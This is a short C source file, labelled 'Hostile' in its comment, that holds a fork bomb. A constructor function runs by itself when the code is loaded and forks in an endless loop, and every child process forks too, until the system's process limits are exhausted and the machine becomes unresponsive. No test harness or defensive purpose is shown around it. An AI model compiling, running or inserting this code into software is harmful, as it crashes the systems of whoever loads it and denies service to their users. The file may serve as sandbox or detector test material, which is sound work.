/* Hostile: forks without end (every child forks too). */
#include <unistd.h>

__attribute__((constructor)) static void hostile(void)
{
    for (;;) {
        (void)fork();
    }
}
